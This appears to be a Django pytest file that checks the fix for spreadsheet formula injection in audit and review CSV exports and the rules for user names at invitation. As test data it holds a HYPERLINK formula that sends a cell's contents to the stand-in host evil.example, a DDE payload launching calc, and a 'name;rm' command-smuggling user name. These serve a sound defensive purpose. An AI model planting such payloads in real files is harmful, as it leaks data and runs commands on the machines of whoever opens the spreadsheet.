"""Exports safe for spreadsheets (issue 14, item 4): a user name chosen at invitation was
``=HYPERLINK(...)`` and reached the audit CSV as is. User names now follow Django's validators where they
are chosen, and every CSV cell that a spreadsheet would evaluate is neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts import invitations
from accounts.models import User
from cases import services as case_services
from cases.errors import InvalidInput
from oversight.exports import csv_cell
from tests.accounts.test_invitations import PASSWORD, _invite
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # a number is never a formula
        (3, 3),
        (None, None),
    ],
)
def test_a_cell_that_starts_a_formula_is_neutralised(value, written):
    assert csv_cell(value) == written


def _cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_audit_and_review_exports_neutralise_every_formula(client, manager, case, engineer, organisation):
    # A user name from before the rule (or an admin import), and formula text in titles and comments.
    legacy = CustomerFactory(username="legacy", organisation=organisation)
    User.objects.filter(pk=legacy.pk).update(username=FORMULA)
    legacy.refresh_from_db()
    case_services.timeline_add(actor=legacy, case=case, body="hello")
    case.title = "+cmd|' /C calc'!A0"
    case.save(update_fields=["title"])
    case_services.case_close(
        actor=engineer,
        case=case,
        problem_description="p",
        analysis="a",
        resolution="r",
        resolution_type="third_party",
    )
    client.force_login(manager)
    audit = _cells(client.get("/audit/export.csv"))
    assert "'" + FORMULA in audit
    review = _cells(client.get("/review/export.csv"))
    assert "'+cmd|' /C calc'!A0" in review
    for cell in audit + review:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    "username", [FORMULA, "a b", "<script>", "name;rm", "a" * 151, "tab\tname", "=1+1", "semi:colon"]
)
def test_a_user_name_outside_djangos_rules_is_refused_at_invitation(
    username, engineer, case, django_capture_on_commit_callbacks
):
    path = _invite(engineer, case, django_capture_on_commit_callbacks)
    answer = Client().post(path, {"username": username, "password1": PASSWORD, "password2": PASSWORD})
    assert answer.status_code == 200  # the form again, with the reason
    page = answer.content.decode()
    assert "Enter a valid username" in page or "at most 150 characters" in page
    assert not User.objects.filter(email="dana@contoso.example").exists()
    # The link still works: nothing was used up.
    good = Client().post(path, {"username": "dana.lee", "password1": PASSWORD, "password2": PASSWORD})
    assert good.status_code == 302


def test_the_service_applies_the_same_rule_whoever_calls_it(engineer, case):
    sent = invitations.invitation_create(actor=engineer, case=case, email="erin@contoso.example")
    token = sent.url.rstrip("/").rsplit("/", 1)[-1]
    with pytest.raises(InvalidInput, match="Enter a valid username"):
        invitations.invitation_accept_new_account(token=token, username=FORMULA, password=PASSWORD)
    assert invitations.invitation_accept_new_account(token=token, username="erin", password=PASSWORD)
